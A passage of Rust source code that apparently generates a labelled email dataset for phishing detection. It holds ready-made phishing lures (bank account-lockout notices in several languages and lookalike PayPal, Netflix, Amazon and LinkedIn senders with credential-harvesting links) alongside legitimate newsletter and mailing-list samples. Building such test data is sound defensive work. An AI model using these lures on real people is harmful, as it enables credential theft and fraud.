            text: "Sehr geehrte Kundin, sehr geehrter Kunde,\n\nbei einer routinemäßigen Überprüfung haben wir verdächtige Aktivitäten in Ihrem Online-Banking festgestellt. Ihr Konto wurde daher vorübergehend gesperrt.\n\nUm eine dauerhafte Sperrung zu vermeiden, bestätigen Sie bitte innerhalb von 48 Stunden Ihre Identität.",
            link: "https://sparkasse-sicherheit.example/de/home/login.php",
            label: "Jetzt Konto entsperren",
            zone: "+0100",
        },
        V {
            display: "Volksbank Online-Banking",
            addr: "info@vr-pushtan-update.example",
            to: DIETER,
            subject: "Aktualisierung Ihres pushTAN-Verfahrens erforderlich",
            text: "Guten Tag,\n\naufgrund neuer gesetzlicher Vorgaben (PSD2) müssen alle Kunden ihr pushTAN-Verfahren aktualisieren. Andernfalls wird Ihr Zugang zum Online-Banking ab dem 20.03.2025 eingeschränkt.\n\nDie Aktualisierung dauert nur wenige Minuten.",
            link: "https://vr-pushtan-update.example/verfahren/aktualisieren",
            label: "pushTAN-Verfahren aktualisieren",
            zone: "+0100",
        },
        V {
            display: "Service Client",
            addr: "securite@bnp-clients-service.example",
            to: ALICE,
            subject: "Votre compte a été suspendu",
            text: "Chère cliente, cher client,\n\nSuite à plusieurs tentatives de connexion suspectes, l'accès à votre espace client a été restreint et votre compte a été suspendu à titre préventif.\n\nPour rétablir l'accès, veuillez confirmer votre identité dans les 24 heures, sans quoi votre compte sera définitivement fermé.",
            link: "https://bnp-clients-service.example/espace-client/reactivation",
            label: "Réactiver mon compte",
            zone: "+0100",
        },
        V {
            display: "Crédit Mutuel - Alerte",
            addr: "alerte@cm-securite-client.example",
            to: ALICE,
            subject: "Alerte sécurité : mise à jour obligatoire",
            text: "Bonjour,\n\nNous avons détecté une activité de connexion inhabituelle sur votre compte depuis un nouvel appareil. Par mesure de sécurité, veuillez vérifier votre compte et mettre à jour vos informations de connexion.\n\nSans action de votre part, votre carte bancaire sera bloquée.",
            link: "http://cm-securite-client.example/verif/index.html",
            label: "Vérifier mon compte",
            zone: "+0100",
        },
        V {
            display: "Santander",
            addr: "avisos@santander-seguridad.example",
            to: CARLA,
            subject: "Su cuenta ha sido bloqueada temporalmente",
            text: "Estimado cliente:\n\nHemos detectado un intento de inicio de sesión sospechoso en su banca online. Por su seguridad, su cuenta ha sido bloqueada temporalmente.\n\nPara desbloquear su cuenta, verifique su identidad en las próximas 24 horas. De lo contrario, su cuenta será cancelada.",
            link: "https://santander-seguridad.example/particulares/desbloqueo",
            label: "Desbloquear mi cuenta",
            zone: "+0100",
        },
        V {
            display: "BBVA",
            addr: "notificaciones@bbva-verificacion.example",
            to: CARLA,
            subject: "Verificación de seguridad requerida",
            text: "Hola,\n\nDebido a una actualización de nuestros sistemas de seguridad, es necesario que confirme sus datos de acceso. Si no completa la verificación hoy mismo, el acceso a su cuenta quedará restringido.",
            link: "https://bbva-verificacion.example/app/verificar?id=2093",
            label: "Verificar ahora",
            zone: "-0600",
        },
    ];
    for (i, v) in vs.into_iter().enumerate() {
        let name = format!("{KIND}-{i:02}");
        let paras: String = v
            .text
            .split("\n\n")
            .map(|p| format!("<p>{}</p>", esc(p)))
            .collect();
        let body = format!(
            "<html><body style=\"font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222\"><table width=\"600\" cellpadding=\"16\"><tr><td style=\"background:#ec0000;color:#fff;font-size:18px\"><b>{}</b></td></tr><tr><td>{paras}<p><a href=\"{}\" style=\"background:#ec0000;color:#fff;padding:10px 22px;text-decoration:none\">{}</a></p></td></tr></table></body></html>\n",
            esc(v.display),
            v.link,
            v.label
        );
        let part = if i % 3 == 0 {
            html(&body)
        } else {
            alternative(vec![plain(&html_to_text(&body)), html(&body)])
        };
        let m = msg(
            &name,
            Mailer::Php,
            mailbox(v.display, v.addr),
            v.to.1.to_string(),
            v.subject,
            date(1 + i * 4, 20 * 60 + i * 29, i * 5, v.zone),
            part,
        );
        let auth = if i % 2 == 0 {
            Auth::Unauthenticated
        } else {
            Auth::Aligned
        };
        out.push(sample(
            KIND,
            i,
            true,
            v.to.1,
            attacker_env(v.addr, i, auth),
            m.render(),
        ));
    }
    out
}

/// Brand lookalikes in the From domain: PayPal, Netflix, Amazon, LinkedIn.
fn brand_lookalike_sender() -> Vec<Sample> {
    const KIND: &str = "brand-lookalike-sender";
    let mut out = Vec::new();
    struct V {
        display: &'static str,
        addr: &'static str,
        to: (&'static str, &'static str),
        subject: &'static str,
        html: &'static str,
    }
    let vs = [
        V {
            display: "PayPal",
            addr: "service@paypa1.com",
            to: BOB,
            subject: "Action needed: confirm your account information",
            html: "<html><body style=\"font-family:Helvetica,Arial;font-size:14px\"><p><b style=\"color:#003087\">PayPal</b></p><p>Hi Bob,</p><p>We've noticed a payment of <b>$749.99</b> to Global Tech Store from your account that doesn't look like you. For your protection we've placed a temporary hold on your account.</p><p>If you did not authorize this payment, log in and confirm your account information to cancel it and restore full access.</p><p><a href=\"https://paypa1.com/myaccount/security/confirm\" style=\"background:#0070ba;color:#fff;padding:10px 26px;border-radius:20px;text-decoration:none\">Cancel payment</a></p><p>PayPal</p></body></html>\n",
        },
        V {
            display: "Netflix",
            addr: "info@netfiix-billing.example",
            to: CARLA,
            subject: "Your payment was declined - update your payment details",
            html: "<html><body style=\"background:#000;font-family:Arial;color:#fff;font-size:15px\"><table width=\"560\" cellpadding=\"24\"><tr><td><b style=\"color:#e50914;font-size:28px\">NETFLIX</b></td></tr><tr><td>Hi Carla,<br><br>We're having some trouble with your current billing information. We'll try again, but in the meantime you may want to update your payment details.<br><br>Your membership will be suspended within 24 hours if we cannot process your payment.</td></tr><tr><td><a href=\"https://netfiix-billing.example/account/payment\" style=\"background:#e50914;color:#fff;padding:12px 30px;text-decoration:none\">UPDATE ACCOUNT</a></td></tr></table></body></html>\n",
        },
        V {
            display: "Amazon",
            addr: "account-update@amazon-security-alerts.example",
            to: ALICE,
            subject: "Your Amazon account is on hold",
            html: "<html><body style=\"font-family:Arial;font-size:14px\"><p><b>amazon</b></p><p>Hello,</p><p>We were unable to validate the billing information associated with your account. As a result, your account has been placed on hold and pending orders have been cancelled.</p><p>To restore full access, please sign in and verify your identity within 24 hours.</p><p><a href=\"https://amazon-security-alerts.example/ap/signin?openid=verify\">Sign in to your account</a></p><p>Thank you,<br>Amazon Customer Service</p></body></html>\n",
        },
        V {
            display: "LinkedIn",
            addr: "messages-noreply@linkedln.com",
            to: CFO,
            subject: "You appeared in 14 searches this week",
            html: "<html><body style=\"font-family:-apple-system,Segoe UI,Arial;font-size:14px\"><p><b style=\"color:#0a66c2\">Linked</b><b style=\"background:#0a66c2;color:#fff\">in</b></p><p>John, you appeared in 14 searches this week.</p><p>Recruiters from Deloitte, KPMG and 3 others viewed your profile.</p><p><a href=\"https://www.linkedln.com/uas/login?session_redirect=%2Fme%2Fsearch-appearances\" style=\"background:#0a66c2;color:#fff;padding:10px 22px;border-radius:24px;text-decoration:none\">See all searches</a></p><p style=\"font-size:11px;color:#666\">LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085</p></body></html>\n",
        },
    ];
    for (i, v) in vs.into_iter().enumerate() {
        let name = format!("{KIND}-{i:02}");
        let m = msg(
            &name,
            if i % 2 == 0 { Mailer::Php } else { Mailer::Esp },
            mailbox(v.display, v.addr),
            person(v.to),
            v.subject,
            date(
                5 + i * 5,
                12 * 60 + i * 71,
                i * 3,
                pick(&["-0700", "+0000", "-0800", "-0800"], i),
            ),
            alternative(vec![plain(&html_to_text(v.html)), html(v.html)]),
        );
        out.push(sample(
            KIND,
            i,
            true,
            v.to.1,
            attacker_env(v.addr, i, Auth::Aligned),
            m.render(),
        ));
    }
    out
}

// ===========================================================================
// Legitimate mail.

/// Every legitimate message.
pub fn legitimate() -> Vec<Sample> {
    let mut all = Vec::new();
    all.extend(newsletter());
    all.extend(mailing_list());
    all.extend(forwarded());
    all.extend(calendar_invite());
    all.extend(password_reset());
    all.extend(signin_alert());
    all.extend(thread_reply());
    all.extend(internal());
    all.extend(supplier_invoice());
    all.extend(order_shipping());
    all.extend(bank_notice());
    all.extend(non_english());
    all.extend(automated_notification());
    all.extend(bounce());
    all.extend(auto_reply());
    all.extend(first_contact());
    all.extend(personal_freemail());
    all.extend(ceo_announcement());
    all.extend(partner_support());
    all
}

/// How a bulk sender rewrites links for click tracking.
#[derive(Clone, Copy)]
enum Tracking {
    /// Mailchimp: `<account>.us21.list-manage.com/track/click`.
    Mailchimp(&'static str),
    /// Salesforce Marketing Cloud on the sender's own click subdomain.
    Sfmc(&'static str),
    /// SendGrid's shared click domain.
    SendGrid,
    /// Substack's redirector.
    Substack,
    /// Mailgun on a custom tracking host.
    Mailgun(&'static str),
    /// Brevo on a custom tracking host.
    Brevo(&'static str),
    /// Plain links with UTM parameters.
    Utm,
}

fn track(t: Tracking, rng: &mut Rng, target: &str) -> String {
    match t {
        Tracking::Mailchimp(acct) => format!(
            "https://{acct}.us21.list-manage.com/track/click?u={}&amp;id={}&amp;e={}",
            rng.hex(25),
            rng.hex(10),
            rng.hex(10)
        ),
        Tracking::Sfmc(host) => format!("https://{host}/?qs={}", rng.hex(160)),
        Tracking::SendGrid => format!(
            "https://u{}.ct.sendgrid.net/ls/click?upn={}-2F{}",
            rng.digits(7),
            rng.alnum(90),
            rng.alnum(40)
        ),
        Tracking::Substack => format!(
            "https://substack.com/redirect/{}-{}-{}-{}-{}?j={}",
            rng.hex(8),
            rng.hex(4),
            rng.hex(4),
            rng.hex(4),
            rng.hex(12),
            rng.alnum(120)
        ),
        Tracking::Mailgun(host) => format!("https://{host}/c/{}", rng.alnum(110)),
        Tracking::Brevo(host) => format!("https://{host}/mk/cl/f/{}", rng.alnum(120)),
        Tracking::Utm => {
            let sep = if target.contains('?') { "&amp;" } else { "?" };
            format!(
                "{target}{sep}utm_source=newsletter&amp;utm_medium=email&amp;utm_campaign=2025-03"
            )
        }
    }
}

/// Newsletters: tracking links, "Read more", visible URLs that differ from
/// the tracked href, List-Unsubscribe.
fn newsletter() -> Vec<Sample> {
    const KIND: &str = "newsletter";
    struct Pub {
        title: &'static str,
        from: &'static str,
        mail_from: &'static str,
        helo: &'static str,
        site: &'static str,
        tracking: Tracking,
        more: &'static str,
        lang: &'static str,
        articles: [(&'static str, &'static str, &'static str); 3],
        footer: &'static str,
    }
    let pubs = [
        Pub {
            title: "The Morning Brief",
            from: "newsletter@morningbrief.example",
            mail_from: "bounce-mc.us21_168402.1044117-{rcpt}@mail178.atl221.mcdlv.net",
            helo: "mail178.atl221.mcdlv.net",
            site: "https://www.morningbrief.example",
            tracking: Tracking::Mailchimp("morningbrief"),
            more: "Read more",
            lang: "en",
            articles: [
                (
                    "Central banks hold rates as inflation cools",
                    "Policymakers signalled patience, with markets now pricing two cuts before year end.",
                    "/markets/central-banks-hold",
                ),
                (
                    "The quiet return of the four-day week",
                    "Three companies that tried it share their numbers - and what went wrong.",
                    "/work/four-day-week",
                ),
                (
                    "Why shipping costs are climbing again",
                    "Container rates on Asia-Europe routes are up 40% since January.",
                    "/trade/shipping-costs",
                ),
            ],
            footer: "You are receiving this email because you opted in via our website.\nMorning Brief Media, 22 Harbour Street, Bristol BS1 4RN, United Kingdom",
        },
        Pub {
            title: "Northwind Traders",
            from: "news@e.northwind.example",
            mail_from: "bounce-{rcpt}@bounce.e.northwind.example",
            helo: "mta4.e.northwind.example",
            site: "https://www.northwind.example",
            tracking: Tracking::Sfmc("click.e.northwind.example"),
            more: "Shop now",
            lang: "en",
            articles: [
                (
                    "Spring catalogue: 300 new lines",
                    "Packaging, labels and warehouse supplies for the new season.",
                    "/spring-2025",
                ),
                (
                    "Free next-day delivery on orders over EUR 250",
                    "Until 31 March for all business accounts.",
                    "/delivery",
                ),
                (
                    "Meet us at LogiMAT Stuttgart",
                    "Hall 8, stand C31 - book a slot with your account manager.",
                    "/events/logimat",
                ),
            ],
            footer: "Northwind Traders Ltd, 14 Docklands Quay, Dublin 1, Ireland. Registered in Ireland no. 512384.",
        },
        Pub {
            title: "RustConf 2025",
            from: "hello@rustconf.example",
            mail_from: "bounces+2931847-8c1d-{rcpt}@em4412.rustconf.example",
            helo: "o1.ptr4412.rustconf.example",
            site: "https://rustconf.example",
            tracking: Tracking::SendGrid,
            more: "Learn more",
            lang: "en",
            articles: [
                (
                    "Call for proposals closes Friday",
                    "Talks, workshops and lightning talks - first-time speakers welcome.",
                    "/cfp",
                ),
                (
                    "Early-bird tickets are almost gone",
                    "Save 30% until the end of the month.",
                    "/tickets",
                ),
                (
                    "Travel grants for students",
                    "Apply by April 15 for travel and accommodation support.",
                    "/grants",
                ),
            ],
            footer: "RustConf, 548 Market St, San Francisco, CA 94104",
        },
        Pub {
            title: "Systems Notes",
            from: "systemsnotes@substack.com",
            mail_from: "bounce-5f2a8c1e-{rcpt}@mg-d1.substack.com",
            helo: "mg-d1.substack.com",
            site: "https://systemsnotes.substack.com",
            tracking: Tracking::Substack,
            more: "Read on Substack",
            lang: "en",
            articles: [
                (
                    "What we learned running Postfix at 40k messages a second",
                    "Queue tuning, qmgr limits, and why the bottleneck was DNS.",
                    "https://github.com/example-ops/postfix-tuning",
                ),
                (
                    "DMARC reports are finally useful",
                    "A small parser and three dashboards that changed how we look at our mail.",
                    "https://dmarc-notes.example/2025/03/reports",
                ),
                (
                    "Links of the week",
                    "Tokio 1.44, a new QUIC stack, and a long read on ARC.",
                    "https://tokio.rs/blog",
                ),
            ],
            footer: "You're on the free list for Systems Notes.\nSubstack Inc., 548 Market Street PMB 72296, San Francisco, CA 94104",
        },
        Pub {
            title: "LinkedIn",
            from: "messages-noreply@linkedin.com",
            mail_from: "s-3xk8k2mp9lq0t@bounce.linkedin.com",
            helo: "mailb-ae.linkedin.com",
            site: "https://www.linkedin.com",
            tracking: Tracking::Utm,
            more: "View",
            lang: "en",
            articles: [
                (
                    "Priya Raman shared a post",
                    "Excited to announce that Fabrikam Engineering has opened a new office in Munich!",
                    "https://www.linkedin.com/comm/feed/update/urn:li:activity:7305512983401234567",
                ),
                (
                    "You appeared in 9 searches this week",
                    "See who's looking for people like you.",
                    "https://www.linkedin.com/comm/me/search-appearances",
                ),
                (
                    "Jobs you may be interested in",
                    "Finance Manager at Tailspin Logistics - Rotterdam (Hybrid)",
                    "https://www.linkedin.com/comm/jobs/view/4178820193",
                ),
            ],
            footer: "This email was intended for you. Learn why we included this.\n© 2025 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.",
        },
        Pub {
            title: "Dropbox",
            from: "no-reply@dropbox.com",
            mail_from: "bounces+12044@em-s.dropbox.com",
            helo: "mail-s1.dropbox.com",
            site: "https://www.dropbox.com",
            tracking: Tracking::Utm,
            more: "Learn more",
            lang: "en",
            articles: [
                (
                    "New in Dropbox: faster file requests",
                    "Collect files from anyone, even if they don't have a Dropbox account.",
                    "https://www.dropbox.com/features/share/file-requests",
                ),
                (
                    "Replay for video review",
                    "Get frame-accurate feedback on video projects.",
                    "https://www.dropbox.com/replay",
                ),
                (
                    "Your storage at a glance",
                    "You're using 61% of your 2 TB plan.",
                    "https://www.dropbox.com/account/plan",
                ),
            ],
            footer: "Dropbox, Inc., PO Box 77767, San Francisco, CA 94107",
        },
        Pub {
            title: "Tech-Rundschau",
            from: "newsletter@tech-rundschau.example",
            mail_from: "bounce+8f21c4@mg.tech-rundschau.example",
            helo: "m42-11.mg.tech-rundschau.example",
            site: "https://www.tech-rundschau.example",
            tracking: Tracking::Mailgun("email.tech-rundschau.example"),
            more: "Weiterlesen",
            lang: "de",
            articles: [
                (
                    "Neue Phishing-Welle zielt auf Buchhaltungen",
                    "Angreifer geben sich als Lieferanten aus und melden eine geänderte Bankverbindung - so schützen Sie sich.",
                    "/artikel/phishing-buchhaltung",
                ),
                (
                    "Windows 11: Update schließt 57 Lücken",
                    "Darunter zwei Zero-Days, die bereits ausgenutzt werden.",
                    "/artikel/patchday-maerz",
                ),
                (
                    "Test: Fünf Dokumentenscanner für das Büro",
                    "Vom Einsteigergerät bis zum Netzwerkscanner mit OCR.",
                    "/tests/dokumentenscanner",
                ),
            ],
            footer: "Sie erhalten diesen Newsletter, weil Sie ihn auf tech-rundschau.example abonniert haben.\nTech-Rundschau Verlag GmbH, Karlstraße 12, 80333 München. Amtsgericht München HRB 219384",
        },
        Pub {
            title: "Le Courrier du Commerce",
            from: "lettre@courrier-commerce.example",
            mail_from: "bounces-1842@r.courrier-commerce.example",
            helo: "smtp-relay-7.r.courrier-commerce.example",
            site: "https://www.courrier-commerce.example",
            tracking: Tracking::Brevo("r.courrier-commerce.example"),
            more: "Lire la suite",
            lang: "fr",
            articles: [
                (
                    "Facturation électronique : le calendrier se précise",
                    "Toutes les entreprises devront pouvoir recevoir des factures électroniques dès septembre 2026.",
                    "/fiscalite/facturation-electronique",
                ),
                (
                    "Export : les PME misent sur l'Espagne",
                    "Les échanges franco-espagnols progressent de 6 % en 2024.",
                    "/international/export-espagne",
                ),
                (
                    "Fraude au président : les bons réflexes",
                    "Un virement urgent et confidentiel demandé par e-mail ? Vérifiez par téléphone.",
                    "/securite/fraude-president",
                ),
            ],
            footer: "Vous recevez cette lettre car vous êtes inscrit(e) sur courrier-commerce.example.\nÉditions du Commerce SAS, 18 rue de la République, 69002 Lyon",
        },
        Pub {
            title: "Boletín Pyme",
            from: "boletin@boletinpyme.example",
            mail_from: "bounce-mc.us3_9921.330171-{rcpt}@mail12.suw13.mcdlv.net",
            helo: "mail12.suw13.mcdlv.net",
            site: "https://boletinpyme.example",
            tracking: Tracking::Mailchimp("boletinpyme"),
            more: "Leer más",
            lang: "es",
            articles: [
                (
                    "Kit Digital: nueva convocatoria abierta",
                    "Ayudas de hasta 12.000 euros para digitalizar pequeñas empresas.",
                    "/ayudas/kit-digital",
                ),
                (
                    "Cómo negociar plazos de pago con proveedores",
                    "La ley de morosidad y cinco consejos prácticos.",
                    "/finanzas/plazos-de-pago",
                ),
                (
                    "Agenda: ferias de marzo",
                    "Logística, alimentación y tecnología en Madrid y Barcelona.",
                    "/agenda/marzo",
                ),
            ],
            footer: "Recibes este boletín porque te suscribiste en boletinpyme.example.\nBoletín Pyme S.L., Calle de Alcalá 95, 28009 Madrid",
        },
        Pub {
            title: "Hartmann Office Supplies",
            from: "angebote@hartmann-office.example",
            mail_from: "newsletter-bounce@hartmann-office.example",
            helo: "mailout2.hartmann-office.example",
            site: "https://shop.hartmann-office.example",
            tracking: Tracking::Utm,
            more: "Zum Angebot",
            lang: "de",
            articles: [
                (
                    "Druckerpapier A4: 20 % Rabatt",
                    "Nur diese Woche auf alle Markenpapiere.",
                    "/papier/a4",
                ),
                (
                    "Ergonomische Bürostühle",
                    "Jetzt 30 Tage kostenlos testen.",
                    "/moebel/buerostuehle",
                ),
                (
                    "Toner-Rückgabe leicht gemacht",
                    "Kostenloses Rücksende-Etikett im Kundenkonto.",
                    "/service/toner-rueckgabe",
                ),
            ],
            footer: "Hartmann Office Supplies GmbH, Industriestraße 8, 70565 Stuttgart. Geschäftsführer: K. Hartmann",
        },
    ];
    let mut out = Vec::new();
    for i in 0..30 {
        let p = &pubs[i % pubs.len()];
        let rcpt = PEOPLE[(i * 5 + i / 10) % PEOPLE.len()];
        let name = format!("{KIND}-{i:02}");
        let mut rng = Rng::new(&name);
        let issue = 100 + i * 3;
        let mut arts = String::new();
        for (n, (head, blurb, path)) in p.articles.iter().enumerate() {
            let target = if path.starts_with("http") {
                path.to_string()
            } else {
                format!("{}{path}", p.site)
            };
            let href = track(p.tracking, &mut rng, &target);
            // Every other issue shows the article's address as the link
            // text, as many newsletters do; the href is still the tracker.
            let link_text = if (i + n) % 2 == 0 {
                p.more.to_string()
            } else {
                target.trim_start_matches("https://").to_string()
            };
            arts.push_str(&format!(
                "<tr><td style=\"padding:16px 24px;border-bottom:1px solid #eee\"><h2 style=\"font-size:18px;margin:0 0 6px\"><a href=\"{href}\" style=\"color:#111;text-decoration:none\">{}</a></h2><p style=\"margin:0 0 8px;color:#444\">{}</p><a href=\"{href}\" style=\"color:#0b62c4\">{}</a></td></tr>\n",
                esc(head),
                esc(blurb),
                esc(&link_text)
            ));
        }
        // The shop's issues carry a search box, as some shop mail does.
        if p.title.starts_with("Hartmann") {
            arts.push_str(&format!(
                "<tr><td style=\"padding:16px 24px\"><form action=\"{}/suche\" method=\"get\"><input type=\"text\" name=\"q\" placeholder=\"Artikel suchen\"> <input type=\"submit\" value=\"Suchen\"></form></td></tr>\n",
                p.site
            ));
        }
        let unsub = match p.tracking {
            Tracking::Mailchimp(acct) => format!(
                "https://{acct}.us21.list-manage.com/unsubscribe?u={}&amp;id={}",
                rng.hex(25),
                rng.hex(10)
            ),
            Tracking::Substack => format!(
                "https://systemsnotes.substack.com/action/disable_email?token={}",
                rng.alnum(60)
            ),
            _ => format!("{}/newsletter/unsubscribe?t={}", p.site, rng.alnum(32)),
        };
        let view = track(
            p.tracking,
            &mut rng,
            &format!("{}/newsletter/{issue}", p.site),
        );
        let (view_label, unsub_label) = match p.lang {
            "de" => ("Im Browser ansehen", "Abmelden"),
            "fr" => ("Voir la version en ligne", "Se désinscrire"),
            "es" => ("Ver en el navegador", "Darse de baja"),
            _ => ("View in browser", "Unsubscribe"),
        };
        let pixel = format!("{}/o/{}.gif", p.site, rng.hex(24));
        let body = format!(
            "<!DOCTYPE html>\n<html lang=\"{}\"><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width\"><title>{}</title></head>\n<body style=\"margin:0;background:#f4f4f4;font-family:Helvetica,Arial,sans-serif;font-size:15px\">\n<table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td align=\"center\">\n<table width=\"600\" cellpadding=\"0\" cellspacing=\"0\" style=\"background:#ffffff\">\n<tr><td style=\"padding:8px 24px;font-size:11px;color:#888;text-align:right\"><a href=\"{view}\" style=\"color:#888\">{view_label}</a></td></tr>\n<tr><td style=\"padding:16px 24px;font-size:24px;font-weight:bold\">{} <span style=\"font-size:13px;color:#888;font-weight:normal\">#{issue}</span></td></tr>\n{arts}<tr><td style=\"padding:16px 24px;font-size:11px;color:#888\">{}<br><a href=\"{unsub}\" style=\"color:#888\">{unsub_label}</a></td></tr>\n</table></td></tr></table>\n<img src=\"{pixel}\" width=\"1\" height=\"1\" alt=\"\">\n</body></html>\n",
            p.lang,
            esc(p.title),
            esc(p.title),
            esc(p.footer).replace('\n', "<br>"),
        );
        let subject = match (p.lang, i % 3) {
            ("de", 0) => format!("{}: {}", p.title, p.articles[0].0),
            ("de", _) => format!("Ihr Newsletter Nr. {issue}: {}", p.articles[(i / 3) % 3].0),
            ("fr", _) => format!("{} n°{issue} - {}", p.title, p.articles[i % 3].0),
            ("es", _) => format!("{} - {}", p.articles[i % 3].0, p.title),
            (_, 0) => p.articles[0].0.to_string(),
            (_, 1) => format!("{} #{issue}: {}", p.title, p.articles[1].0),
            _ => format!("This week: {}", p.articles[2].0.to_lowercase()),
        };
        let rcpt_tag = rcpt.1.replace('@', "=");
        let mail_from = p.mail_from.replace("{rcpt}", &rcpt_tag);
        let mut m = msg(
            &name,
            Mailer::Esp,
            mailbox(p.title, p.from),
            rcpt.1.to_string(),
            &subject,
            date(
                i / 2,
                6 * 60 + (i * 37) % 300,
                i * 7,
                pick(&["+0000", "-0500", "+0100"], i),
            ),
            alternative(vec![plain(&html_to_text(&body)), html(&body)]),
        )
        .header(
            "List-Unsubscribe",
            &format!(
                "<{}>, <mailto:unsubscribe-{}@{}>",
                unsub.replace("&amp;", "&"),
                rng.hex(16),
                domain_of(&mail_from)
            ),
        )
        .header("List-Unsubscribe-Post", "List-Unsubscribe=One-Click")
        .header("Precedence", "bulk")
        .header(
            "Feedback-ID",
            &format!(
                "{}:{}:newsletter:{}",
                rng.digits(6),
                rng.digits(4),
                domain_of(p.from)
            ),
        );
        if let Tracking::Mailchimp(acct) = p.tracking {
            let list = rng.hex(20);
            m = m.header(
                "List-ID",
                &format!("{acct} <{list}.{}.list-id.mcsv.net>", rng.digits(6)),
            );
            m = m.header("X-Mailer", "Mailchimp Mailer - **CID7d3f0a1e2b**");
        }
        let env = service_env(&mail_from, p.helo, Auth::Aligned, i % 3 != 2);
        out.push(sample(KIND, i, false, rcpt.1, env, m.render()));
    }
    out
}

/// Mailing lists: subject tags, footers, Reply-To the list, List-Id; the
/// list breaks the poster's DKIM and ARC-seals (or rewrites From).
fn mailing_list() -> Vec<Sample> {
    const KIND: &str = "mailing-list";
    struct List {
        name: &'static str,
        addr: &'static str,
        desc: &'static str,
        tag: &'static str,
    }
    let lists = [
        List {
            name: "rust-users",
            addr: "rust-users@lists.example.net",
            desc: "Rust users discussion",
            tag: "[rust-users]",
        },
        List {
            name: "mta-ops",
            addr: "mta-ops@lists.example.net",
            desc: "Mail server operators",
            tag: "[mta-ops]",
        },
        List {
            name: "finance-peers",
            addr: "finance-peers@lists.example.net",
            desc: "Finance peer group (Rhine-Main)",
            tag: "[finance-peers]",
        },
    ];
    let posters: [(&str, &str, Mailer); 7] = [
        (
            "Ana Ruiz",
            "ana.ruiz@uni-valencia.example",
            Mailer::Thunderbird,
        ),
        ("Tomasz Nowak", "tnowak.dev@gmail.com", Mailer::Gmail),
        ("Kenji Sato", "k.sato@sato-lab.example", Mailer::AppleMail),
        ("Rebecca Hill", "rhill@fastmail.com", Mailer::Thunderbird),
        ("Lukas Brenner", "lukas@brenner-it.example", Mailer::Outlook),
        (
            "Olu Adeyemi",
            "olu@adeyemi-consulting.example",
            Mailer::Gmail,
        ),
        (
            "Marie Dubois",
            "marie.dubois@laposte.net",
            Mailer::Thunderbird,
        ),
    ];
    // (list index, subject, body); a body starting with "Re:" in its subject
    // is an answer and quotes.
    let threads: [(usize, &str, &str, &str); 10] = [
        (
            0,
            "tokio task starvation with blocking DNS lookups",
            "Hi all,\n\nWe have a service that resolves MX records for every outgoing message and under load the whole runtime stalls for seconds at a time. I suspect getaddrinfo is being called on a worker thread somewhere deep in a dependency.\n\nIs there a good way to find which task is blocking? tokio-console shows the busy workers but not the call site.\n\nThanks,\n",
            "",
        ),
        (
            0,
            "Re: tokio task starvation with blocking DNS lookups",
            "Have a look at the `tokio::task::block_in_place` calls in your resolver crate, or switch to hickory-resolver which is async all the way down. tokio-console's \"busy duration\" per task should point at the culprit if you enable `tokio_unstable` and name your tasks.\n\nWe had the same thing with a logging sink doing synchronous file writes.\n",
            "Hi all,\n\nWe have a service that resolves MX records for every outgoing message and under load the whole runtime stalls for seconds at a time.\n",
        ),
        (
            0,
            "Announcing mailparse-lite 0.4",
            "Hello,\n\nI've just published mailparse-lite 0.4 on crates.io. Highlights:\n\n- RFC 2231 continuations in parameters\n- lenient handling of bare LF line endings\n- 30% faster header parsing\n\nRelease notes: https://github.com/ksato/mailparse-lite/releases/tag/v0.4.0\n\nFeedback welcome.\n",
            "",
        ),
        (
            1,
            "DKIM signing fails after key rotation",
            "Hello list,\n\nAfter rotating our DKIM keys yesterday, receivers report dkim=fail (body hash did not verify) for about 5% of our messages. The new selector is published and opendkim-testkey says the key is OK.\n\nThe failing messages all seem to pass through our disclaimer milter. Could the order of milters matter here?\n\nRegards,\n",
            "",
        ),
        (
            1,
            "Re: DKIM signing fails after key rotation",
            "Yes - if the disclaimer milter runs after the signer, it changes the body after it was signed. Put the signing milter last in smtpd_milters (and non_smtpd_milters).\n\nAlso check that nothing re-encodes 8bit parts to quoted-printable downstream.\n",
            "After rotating our DKIM keys yesterday, receivers report dkim=fail (body hash did not verify) for about 5% of our messages.\n",
        ),
        (
            1,
            "Postscreen and IPv6 greylisting",
            "Is anyone running postscreen deep protocol tests on IPv6? We see legitimate senders from large providers hop across a /64 between attempts and never get through. Would you whitelist by /64 or just disable the after-220 tests for v6?\n",
            "",
        ),
        (
            1,
            "Re: Password reset mails landing in spam at a big provider",
            "We saw the same last month. In our case the reset links used a URL shortener, which the provider's filter scores heavily. Once we linked directly to our own domain the problem went away.\n\nAlso make sure the From domain and the link domain match - that helps a lot.\n",
            "Our password reset emails started going to spam at one large provider, although SPF, DKIM and DMARC all pass.\n",
        ),
        (
            2,
            "Payment fraud attempt - heads-up",
            "Dear colleagues,\n\nA short warning: this week our accounts payable team received an email that looked like it came from one of our long-standing suppliers, announcing new bank details. The domain differed by one letter. We only noticed because our policy requires a call-back to the number on file.\n\nIf you don't have such a policy yet, I can share ours.\n\nBest regards,\n",
            "",
        ),
        (
            2,
            "Re: Payment fraud attempt - heads-up",
            "Thank you for sharing. We introduced a mandatory call-back for any change of bank details last year, plus a second approval for new payees above EUR 10,000. It has already stopped two attempts.\n\nI'd be happy to see your policy as well.\n",
            "A short warning: this week our accounts payable team received an email that looked like it came from one of our long-standing suppliers, announcing new bank details.\n",
        ),
        (
            2,
            "Next meeting: 3 April, Frankfurt",
            "Dear all,\n\nOur next meeting takes place on 3 April at 17:00 at the Chamber of Commerce in Frankfurt. Topics: e-invoicing obligations from 2025, and experiences with treasury management systems.\n\nPlease register by 28 March: https://finance-peers.example.net/events/2025-04\n\nKind regards,\n",
            "",
        ),
    ];
    let mut out = Vec::new();
    for i in 0..25 {
        let name = format!("{KIND}-{i:02}");
        let (li, subject, text, quoted) = threads[i % threads.len()];
        let list = &lists[li];
        let (pname, paddr, mailer) = posters[(i * 3 + li) % posters.len()];
        let rcpt = pick(&[BOB, DIETER, CFO, CARLA, ALICE], i + li);
        let mut body_text = format!("{text}{}\n", first_name_of(pname));
        if !quoted.is_empty() {
            let (qn, qa, _) = posters[(i + 2) % posters.len()];
            body_text = format!(
                "{}\n{}",
                body_text,
                quote_gmail(&when(i / 2, 9 * 60 + i * 13), &mailbox(qn, qa), quoted)
            );
        }
        let footer = format!(
